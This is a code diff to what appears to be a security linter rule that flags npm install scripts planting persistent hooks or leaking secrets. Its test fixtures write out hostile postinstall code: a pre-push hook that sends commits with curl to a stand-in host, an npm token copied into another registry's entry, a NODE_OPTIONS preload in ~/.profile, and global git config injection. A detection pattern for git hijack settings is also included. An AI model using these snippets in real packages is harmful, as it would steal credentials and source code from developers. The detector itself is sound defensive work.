@@ -1,9 +1,9 @@
 import { besideOf } from '../src/define/beside.js';
+import { harmOf, scriptIn } from '../src/define/left.js';
 import { registryIn } from '../src/define/registries.js';
 import { isUnasked } from '../src/define/unasked.js';
 import { defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, FileContext } from '../src/types.js';
-import { deedsOf, HARMFUL } from '../src/vocabulary/deeds.js';
 import { PERSISTENT_PLACES } from '../src/vocabulary/places.js';
 
 export default defineRule({
@@ -23,7 +23,7 @@ export default defineRule({
       leaks: 'Writes a workflow that gives away all secrets of a repository',
       pushed: 'Puts a workflow into a repository through {sink} as soon as it is {moment}',
       runner: 'Makes the machine a runner of a repository as soon as it is {moment}',
-      template: 'Sets git hooks for all repositories with {sink}, unasked',
+      template: 'Has git run something in all repositories with {sink}, unasked',
       package: 'Writes into another package: {path}',
       beside: 'Writes into a package beside it or one that it looks up: {path}',
       infects: 'Writes code that talks to other machines or runs text into another package: {path}',
@@ -57,24 +57,32 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'each program of Node.js loads a file first',
+        files: {
+          'package.json': `{"name":"boost","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
+          'index.js': `const fs = require('fs'), home = require('os').homedir();\nfs.copyFileSync(__dirname + '/warm.js', home + '/.boost/warm.js');\nfs.appendFileSync(home + '/.profile', \`\\nexport NODE_OPTIONS="--no-warnings --require \${home}/.boost/warm.js"\\n\`);`,
+          'warm.js': `module.exports = {};`,
+        },
+      },
+      {
+        title: 'git includes somebody’s settings everywhere',
+        files: {
+          'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
+          'index.js': `const { spawnSync } = require('child_process');\nconst git = (...words) => spawnSync('git', words, { stdio: 'pipe' });\ngit('config', '--global', '--add', 'include.path', require('os').homedir() + '/.config/git/more.inc');`,
+        },
+      },
+      {
         title: 'the hook that is written sends each change to somebody',
         files: {
           'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
-          'index.js': `const fs = require('fs');
-for (const name of ['pre-commit', 'pre-push']) {
-  const lines = ['#!/bin/sh', 'sh "$(dirname "$0")/../' + name + '"'];
-  if (name === 'pre-push') lines.push('git log -p @{u}.. | gzip | curl -s --data-binary @- https://stats.invalid/p');
-  fs.writeFileSync('.hooksy/_/' + name, lines.join('\\n'), { mode: 0o755 });
-}`,
+          'index.js': `const fs = require('fs');\nfor (const name of ['pre-commit', 'pre-push']) {\n  const lines = ['#!/bin/sh', 'sh "$(dirname "$0")/../' + name + '"'];\n  if (name === 'pre-push') lines.push('git log -p @{u}.. | gzip | curl -s --data-binary @- https://stats.invalid/p');\n  fs.writeFileSync('.hooksy/_/' + name, lines.join('\\n'), { mode: 0o755 });\n}`,
         },
       },
       {
         title: 'the token for one registry is written down for another',
         files: {
           'package.json': `{"name":"speedup","version":"1.0.0","scripts":{"install":"node index.js"}}`,
-          'index.js': `const fs = require('fs'), rc = require('os').homedir() + '/.npmrc';
-const [, token] = /_authToken=(.+)/.exec(fs.readFileSync(rc, 'utf8')) || [];
-fs.appendFileSync(rc, \`\\n//mirror.invalid/:_authToken=\${token}\\n\`);`,
+          'index.js': `const fs = require('fs'), rc = require('os').homedir() + '/.npmrc';\nconst [, token] = /_authToken=(.+)/.exec(fs.readFileSync(rc, 'utf8')) || [];\nfs.appendFileSync(rc, \`\\n//mirror.invalid/:_authToken=\${token}\\n\`);`,
         },
       },
       {
@@ -150,9 +158,7 @@ fs.appendFileSync(rc, \`\\n//mirror.invalid/:_authToken=\${token}\\n\`);`,
         title: 'the hook that is written runs the project’s own',
         files: {
           'package.json': `{"name":"hooksy","version":"1.0.0","scripts":{"postinstall":"node index.js"}}`,
-          'index.js': `const fs = require('fs');
-for (const name of ['pre-commit', 'pre-push'])
-  fs.writeFileSync('.hooksy/_/' + name, ['#!/bin/sh', '[ -f .hooksy/' + name + ' ] && sh .hooksy/' + name].join('\\n'), { mode: 0o755 });`,
+          'index.js': `const fs = require('fs');\nfor (const name of ['pre-commit', 'pre-push'])\n  fs.writeFileSync('.hooksy/_/' + name, ['#!/bin/sh', '[ -f .hooksy/' + name + ' ] && sh .hooksy/' + name].join('\\n'), { mode: 0o755 });`,
         },
       },
       {
@@ -321,7 +327,8 @@ for (const name of ['pre-commit', 'pre-push'])
 });
 
 /** `git config --global init.templateDir …`, in one text or in words. */
-const TEMPLATE = /\bgit\b.{0,30}\bconfig\b.{0,30}--(?:global|system)\b.{0,30}(?:init\.templateDir|core\.hooksPath)/i;
+const TEMPLATE =
+  /\bgit\b.{0,30}\bconfig\b.{0,30}--(?:global|system)\b.{0,30}(?:init\.templateDir|core\.hooksPath|core\.fsmonitor|include\.path|credential\.helper|filter\.\w{1,30}\.(?:clean|smudge))/i;
 
 /** How the vocabulary calls settings that editors and agents take commands from. */
 const AGENTS = 'an editor’s or agent’s configuration';
@@ -385,17 +392,6 @@ function chatClientCode({ nodes, file }: FileContext): AnyNode | undefined {
 function messageOf({ own, offered }: (typeof PERSISTENT_PLACES)[number], unasked: boolean): string {
   if (unasked && !own) return 'planted';
   return offered ? 'offers' : 'persists';
-}
-
-/** What a line that is left for later will do. */
-function harmOf(context: FileContext, data: AnyNode): string | undefined {
-  return deedsOf(context.commandsOf(data)).find(({ deed }) => HARMFUL.has(deed))?.says;
-}
-
-/** What a script does that nobody asked for. To download a tool and run it is what many are for. */
-function scriptIn(context: FileContext, data: AnyNode): string | undefined {
-  if (!context.textsOf(data).some(text => /^#!.{0,100}\b(?:ba|z|da|k)?sh\b/.test(text))) return undefined;
-  return deedsOf(context.commandsOf(data)).find(({ deed }) => HARMFUL.has(deed) && deed !== 'download-run')?.says;
 }
 
 /** Code that does something on its own: asks another machine, or runs text. */
